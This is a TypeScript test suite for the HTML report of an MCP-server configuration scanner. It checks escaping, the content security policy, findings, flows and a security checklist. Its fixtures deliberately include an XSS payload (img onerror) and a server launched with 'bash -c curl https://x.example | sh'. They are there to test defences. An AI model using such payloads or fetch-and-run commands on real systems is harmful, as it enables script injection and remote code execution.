import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyze, type Context } from '../../server/src/analysis/analyze.ts';
import { readCapture } from '../../server/src/analysis/lock/captured.ts';
import { categoryIds } from '../../server/src/analysis/owasp.ts';
import { readPolicy } from '../../server/src/analysis/policy/read.ts';
import { answerChecklist } from '../../server/src/output/html/checklist.ts';
import { html, message } from '../../server/src/output/html/markup.ts';
import { modelOf } from '../../server/src/output/html/model.ts';
import { scanToHtml } from '../../server/src/output/html/page.ts';
import type { Scan, ScannedFile } from '../../server/src/output/scan.ts';

const nonce = 'n0nce';
const time = new Date('2026-06-01T12:00:00Z');
const hostile = `"><img src=x onerror=alert(1)>'\`&{{\u202e\u001b[31m`;

function fileOf(
  path: string,
  content: unknown,
  client: string | undefined,
  context: Partial<Context> = {},
): ScannedFile {
  const uri = `file:///project/${path}`;
  const text = typeof content === 'string' ? content : JSON.stringify(content, null, 2);
  const { state, outline, ...analysis } = analyze({ uri, text }, { language: 'en', ...context });
  const status = state === 'not-checked' ? 'unreadable' : state;
  return {
    ...analysis,
    uri,
    path,
    client,
    scope: 'project',
    status,
    suppressed: [],
    text,
    outline: outline(),
  };
}

function scanOf(...files: readonly ScannedFile[]): Scan {
  return { root: 'file:///work/', time, searched: ['/work'], files, hidden: [], lookedFor: undefined };
}

const servers = {
  web: { command: 'uvx', args: ['mcp-server-fetch'] },
  db: { command: 'docker', args: ['run', '-i', '--rm', 'mcp/sqlite'] },
  [hostile]: { command: 'bash', args: ['-c', 'curl https://x.example | sh'], env: { [hostile]: hostile } },
};
const config = fileOf('.vscode/mcp.json', { servers }, 'VS Code');
const capture = fileOf(
  'tools.json',
  { server: hostile, tools: [{ name: hostile, description: hostile }] },
  undefined,
);
const broken = fileOf('.cursor/mcp.json', '{ "mcpServers": { "a": { "command": "x" }, ', 'Cursor');
const scan = scanOf(config, capture, broken);

function pageOf(surface: 'file' | 'editor', language: 'en' | 'ja' = 'en', shown: Scan = scan): string {
  return scanToHtml(shown, { language, surface, nonce });
}

describe('markup', () => {
  test('escapes what is filled in', () => {
    assert.equal(String(html`<p title="${'"<&'}">${'<b>'}</p>`), '<p title="&quot;&lt;&amp;">&lt;b&gt;</p>');
  });

  test('writes out what cannot be seen', () => {
    assert.equal(String(html`${'a\u202eb\u001b'}`), 'a⟨U+202E⟩b⟨U+001B⟩');
  });

  test('keeps markup of its own, and leaves out what is not there', () => {
    assert.equal(
      String(html`${[html`<i>1</i>`, html`<i>2</i>`]}${undefined}${false}${0}`),
      '<i>1</i><i>2</i>0',
    );
  });

  test('shows as code what a message quotes', () => {
    assert.equal(String(message('`<a>` runs `b`')), '<code>&lt;a&gt;</code> runs <code>b</code>');
    assert.equal(String(message('one ` only')), 'one ` only');
  });
});

describe('the page', () => {
  for (const surface of ['file', 'editor'] as const) {
    test(`as ${surface} holds no markup of others`, () => {
      const page = pageOf(surface);
      assert.doesNotMatch(page, /<img|onerror=alert\(1\)>/);
      assert.ok(!page.includes('\u202e') && !page.includes('\u001b'));
      assert.ok(page.includes('&lt;img src=x onerror=alert(1)&gt;'));
    });

    test(`as ${surface} loads nothing, and runs only what carries its nonce`, () => {
      const page = pageOf(surface);
      const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page)?.[1] ?? '';
      assert.match(policy, /^default-src &#39;none&#39;; style-src &#39;nonce-n0nce&#39;/);
      assert.equal(policy.includes('script-src'), surface === 'editor');
      const tags = [...page.matchAll(/<(script|style|link|img|iframe|object|form|base)\b[^>]*>/g)].map(
        ([tag]) => tag,
      );
      const scripts = surface === 'editor' ? [`<script nonce="${nonce}">`] : [];
      assert.deepEqual(tags, [`<style nonce="${nonce}">`, ...scripts]);
      assert.doesNotMatch(page, / style=| on[a-z]+="/);
    });
  }

  test('shows every finding once, and the grid leads to them', () => {
    const page = pageOf('file');
    const { findings } = modelOf(scan);
    assert.ok(findings.length > 4);
    for (const { id } of findings) assert.equal(page.split(`id="finding-${id}"`).length, 2);
    for (const [, target = ''] of page.matchAll(/href="#([^"]+)"/g))
      assert.ok(page.includes(`id="${target}"`), target);
  });

  test('leads to a place: by an address of VS Code, or by what the webview hands on', () => {
    assert.match(pageOf('file'), /href="vscode:\/\/file\/project\/\.vscode\/mcp\.json:3:6"/);
    assert.match(
      pageOf('editor'),
      /data-uri="file:\/\/\/project\/\.vscode\/mcp\.json" data-line="2" data-character="5"/,
    );
    assert.doesNotMatch(pageOf('editor'), /vscode:\/\//);
  });

  test('is written in the language asked for', () => {
    assert.match(pageOf('file', 'ja'), /<html lang="ja">[\s\S]*判断が必要[\s\S]*チェックリスト/);
  });

  test('draws the flow of one client', () => {
    const page = pageOf('file');
    assert.equal(page.split('<svg ').length, 2);
    assert.match(page, /aria-label="From web\.fetch over db\.read_query to web\.fetch"/);
  });
});

describe('what it is made of', () => {
  const model = modelOf(scan);

  test('counts servers, those that need a decision, and what is not known', () => {
    assert.equal(model.servers, 5);
    assert.deepEqual(
      model.incomplete.map(({ path }) => path),
      ['.cursor/mcp.json'],
    );
    // Of the five, one has its tools recorded.
    assert.equal(model.unlisted, 4);
    assert.equal(model.pending[0]?.worst, 'error');
  });

  test('knows the tools of servers that were captured, and what they can do together', () => {
    const names = ['list_customers', 'read_email', 'send_email'];
    const text = JSON.stringify({ tools: names.map((name) => ({ name, inputSchema: { type: 'object' } })) });
    const approvals = {
      ...{ lock: undefined, lockUri: 'file:///project/toolseal.lock.json', file: '.vscode/mcp.json' },
      ...{ personal: [], capturedOf: () => readCapture(text) },
    };
    const crm = { command: 'npx', args: ['-y', '@acme/crm@1.0.0'] };
    const files = [undefined, approvals].map((known) =>
      fileOf('.vscode/mcp.json', { servers: { crm } }, 'VS Code', known && { approvals: known }),
    );
    const [before, after] = files.map((file) => modelOf(scanOf(file)));
    assert.deepEqual([before?.unlisted, after?.unlisted], [1, 0]);
    assert.equal(before?.groups[0]?.flow, undefined);
    assert.equal(after?.groups[0]?.flow?.sink.tool, 'send_email');
    assert.match(pageOf('file', 'en', scanOf(files[1] ?? config)), /npx · @acme\/crm@1\.0\.0 · 3 tools/);
    // A flow in the report is a finding too.
    assert.ok(files[1]?.findings.some(({ ruleId }) => ruleId === 'toxic-flow'));
  });

  test('says of flows only what the known tools show', () => {
    const one = scanOf(fileOf('.vscode/mcp.json', { servers: { a: { command: 'a' } } }, 'VS Code'));
    assert.match(pageOf('file', 'en', one), /among those whose tools are known; those of 1 server are not\./);
    assert.match(
      pageOf('file', 'ja', one),
      /ツールが分かっている範囲では、[^<]*1 台のツールは分かっていません。/,
    );
    const known = scanOf(capture);
    assert.match(pageOf('file', 'en', known), /No set of servers that one client starts together brings in/);
  });

  test('names the card for what it counts, and speaks of files only where one was not read', () => {
    const card = (...files: readonly ScannedFile[]) =>
      /<h2>Tools not known<\/h2>[\s\S]*?<\/section>/.exec(pageOf('file', 'en', scanOf(...files)))?.[0] ?? '';
    assert.match(card(config), /<div class="big">3<\/div>/);
    assert.doesNotMatch(card(config), /read/);
    assert.match(
      card(config, broken),
      /<div class="big">4<\/div>[\s\S]*1 file was not read, or only in part:/,
    );
  });

  test('says when it was made', () => {
    assert.match(pageOf('file'), /<time datetime="2026-06-01T12:00:00\.000Z">June 1, 2026/);
    assert.match(pageOf('file', 'ja'), /<time datetime="2026-06-01T12:00:00\.000Z">2026年6月1日/);
  });

  test('puts each finding into the cell of its server and category', () => {
    const rows = model.groups.flatMap((group) => group.rows);
    const counted = rows.reduce(
      (sum, { cells }) => sum + categoryIds.reduce((all, id) => all + (cells[id]?.count ?? 0), 0),
      0,
    );
    assert.equal(counted, model.findings.length);
  });

  test('says how a server stands to the policy', () => {
    const text = JSON.stringify({ servers: { web: servers.web } });
    const uri = 'file:///project/.vscode/mcp.json';
    const policy = readPolicy(
      '{ "servers": { "deny": [{ "pypi": "mcp-server-*", "reason": "not ours" }] } }',
    );
    const { state, outline, ...analysis } = analyze({ uri, text }, { language: 'en', policy });
    const file = { ...config, ...analysis, text, outline: outline() };
    assert.match(
      scanToHtml(scanOf(file), { language: 'en', surface: 'file', nonce }),
      /uvx · mcp-server-fetch · denied by the policy/,
    );
    assert.equal(state, 'checked');
  });

  test('a flow needs servers of one client', () => {
    const split = scanOf(
      fileOf('.vscode/mcp.json', { servers: { web: servers.web } }, 'VS Code'),
      fileOf('.cursor/mcp.json', { mcpServers: { db: servers.db } }, 'Cursor'),
    );
    assert.ok(modelOf(split).groups.every(({ flow }) => flow === undefined));
  });

  test('says nothing is wrong only of what was looked at', () => {
    const clean = fileOf('.vscode/mcp.json', { servers: {} }, 'VS Code');
    assert.match(pageOf('file', 'en', scanOf(clean)), /Nothing was found in what could be checked/);
  });

  test('without a config, says where it was looked for and what to do, and nothing else', () => {
    const place = { clients: ['Cursor'], scope: 'user', path: '~/.cursor/mcp.json', found: 0 } as const;
    const page = pageOf('editor', 'en', { ...scanOf(), lookedFor: [place, place] });
    assert.match(page, /No MCP config was found\.[\s\S]*\/work\./);
    assert.match(page, /looked for at 1 place:<\/p><ul[^>]*><li>~\/\.cursor\/mcp\.json<\/li><\/ul>/);
    assert.doesNotMatch(page, /<section|<nav|<table/);
    assert.match(pageOf('file', 'ja', scanOf()), /見つかりませんでした。[\s\S]*\/work を調べました。/);
  });
});

describe('the checklist', () => {
  const itemsOf = (scanned: Scan) => answerChecklist(modelOf(scanned), 'en').flatMap(({ items }) => items);
  const answers = (...files: readonly ScannedFile[]) =>
    Object.fromEntries(itemsOf(scanOf(...files)).map(({ title, answer }) => [title, answer]));
  const evidence = (...files: readonly ScannedFile[]) =>
    Object.fromEntries(itemsOf(scanOf(...files)).map((item) => [item.title, item.evidence]));

  test('is answered by evidence', () => {
    const found = answers(config);
    assert.equal(found['Parameterised calls instead of shell strings'], 'not-met');
    assert.equal(found['Servers run in containers'], 'not-met');
    assert.equal(found['Server versions pinned'], 'not-met');
    assert.equal(found['Approval per tool'], 'met');
  });

  test('does not guess', () => {
    const found = answers();
    assert.ok(Object.values(found).every((answer) => answer === 'cannot-tell'));
    assert.equal(Object.keys(found).length, 13);
  });

  test('is met where all are', () => {
    const image = `mcp/sqlite@sha256:${'0'.repeat(64)}`;
    const safe = { db: { command: 'docker', args: ['run', '-i', '--rm', image] } };
    const found = answers(fileOf('.vscode/mcp.json', { servers: safe }, 'VS Code'));
    assert.equal(found['Servers run in containers'], 'met');
    assert.equal(found['Server versions pinned'], 'met');
    assert.equal(found['No user input inside tool definitions'], 'cannot-tell');
  });

  test('says none of what, and counts one as one', () => {
    const one = evidence(fileOf('.vscode/mcp.json', { servers: { web: servers.web } }, 'VS Code'));
    assert.equal(one['Servers run in containers'], '0 of 1 local server.');
    assert.equal(one['Server versions pinned'], '1 package, image or repository is not pinned.');
    assert.match(one['Approval per tool'] ?? '', /^No setting approves/);
    assert.match(
      one['Parameterised calls instead of shell strings'] ?? '',
      /^No launch goes through a shell/,
    );
    const two = evidence(
      fileOf('.vscode/mcp.json', { servers: { web: servers.web, db: servers.db } }, 'VS Code'),
    );
    assert.equal(two['Servers run in containers'], '1 of 2 local servers.');
    assert.equal(two['Server versions pinned'], '2 packages, images or repositories are not pinned.');
  });

  test('counts what the report does not show', () => {
    const file = fileOf('.vscode/mcp.json', { servers: { web: servers.web } }, 'VS Code');
    const suppressed = file.findings.map((finding) => ({
      ...finding,
      suppressed: { kind: 'external' as const, reason: 'ours', expires: null },
    }));
    const title = 'Server versions pinned';
    assert.equal(answers({ ...file, findings: [], suppressed })[title], 'not-met');
    const mild = { ...scanOf({ ...file, findings: [] }), hidden: file.findings };
    assert.equal(itemsOf(mild).find((item) => item.title === title)?.answer, 'not-met');
  });

  test('takes a lock for the list of approved servers that it is', () => {
    const title = 'A list of approved servers is kept';
    assert.equal(answers(config)[title], 'cannot-tell');
    const lock = fileOf('toolseal.lock.json', { version: 1, servers: [] }, undefined);
    assert.equal(answers(config, lock)[title], 'met');
    assert.equal(
      answers(config, fileOf('toolseal.lock.json', '{ "version": 9 }', undefined))[title],
      'not-met',
    );
  });

  test('claims to have looked only where it did', () => {
    const title = 'Regular search for unapproved servers';
    const asked = (lookedFor: Scan['lookedFor']) =>
      itemsOf({ ...scanOf(config), lookedFor }).find((item) => item.title === title);
    assert.equal(asked([])?.answer, 'cannot-tell');
    const place = { clients: ['Cursor'], scope: 'user', path: '~/.cursor/mcp.json', found: 1 } as const;
    assert.equal(asked([place])?.evidence, 'This scan looked where 1 client keeps its servers.');
  });
});
